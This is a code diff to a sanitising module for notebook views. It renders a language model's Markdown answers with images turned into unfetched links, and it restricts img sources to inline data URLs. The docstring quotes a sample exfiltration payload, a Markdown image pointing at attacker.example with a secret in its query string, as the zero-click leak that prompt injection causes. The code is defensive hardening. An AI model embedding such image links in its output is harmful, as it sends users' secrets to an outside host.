@@ -3,11 +3,15 @@ results, dataset cells, evaluation outputs, error messages) reaches HTML only th
 
 - :func:`escape` — a value shown as text inside HTML a view builds.
 - :func:`markdown` — Markdown (a model's answer) rendered to HTML with raw HTML escaped, then
-  sanitised: the text reads as Markdown, nothing in it runs.
+  sanitised: the text reads as Markdown, nothing in it runs. An image in it shows as a link to
+  its URL, never fetched: ``![x](https://attacker.example/?d=SECRET)`` in an answer would
+  otherwise send the secret the moment the answer is shown (prompt injection's zero-click leak).
 - :func:`clean` — the last pass over every HTML fragment a view hands to Jupyter (``_repr_html_``,
   a mimebundle's ``text/html``, a ``widgets.HTML`` value): ammonia (``nh3``) keeps qfnb's tags,
   classes and inline styles and drops scripts, event handlers, ``javascript:`` URLs and anything
-  else that could execute, live, when the notebook is reopened and in nbconvert's export.
+  else that could execute, live, when the notebook is reopened and in nbconvert's export. An
+  ``<img>`` keeps its ``src`` only as a raster ``data:`` URL (the charts qfnb draws): no view
+  loads anything from elsewhere.
 
 Live outputs of a running kernel are *trusted* by JupyterLab and shown without its sanitiser, and
 its Markdown renderer passes raw HTML through: so views never send untrusted text as
@@ -21,6 +25,7 @@ import re
 
 import mistune
 import nh3
+from mistune.util import striptags
 
 __all__ = ["clean", "escape", "markdown"]
 
@@ -55,8 +60,10 @@ def _attribute(tag: str, attribute: str, value: str) -> str | None:
         return None if _ACTIVE_STYLE.search(value) else value
     if attribute == "id":
         return value if _STYLER_ID.match(value) else None
-    if attribute in ("href", "src") and value.strip().lower().startswith("data:"):
-        return value if tag == "img" and attribute == "src" and _INLINE_IMAGE.match(value.strip()) else None
+    if tag == "img" and attribute == "src":  # only an image qfnb inlined itself: nothing is fetched
+        return value if _INLINE_IMAGE.match(value.strip()) else None
+    if attribute == "href" and value.strip().lower().startswith("data:"):
+        return None
     return value
 
 
@@ -71,7 +78,15 @@ def escape(value: object) -> str:
     return html.escape(str(value), quote=True)
 
 
-_MARKDOWN = mistune.create_markdown(escape=True, plugins=["strikethrough", "table"])
+class _Renderer(mistune.HTMLRenderer):
+    """mistune's HTML, an image written as a link to it (its alt text, marked as an image)."""
+
+    def image(self, text: str, url: str, title: str | None = None) -> str:
+        label = f"🖼 {striptags(text).strip() or 'image'}"  # text is rendered inline HTML, escaped
+        return self.link(label, url, title or "an image, not loaded: open the link to see it")
+
+
+_MARKDOWN = mistune.create_markdown(escape=True, renderer=_Renderer(escape=True), plugins=["strikethrough", "table"])
 
 
 def markdown(text: str) -> str:
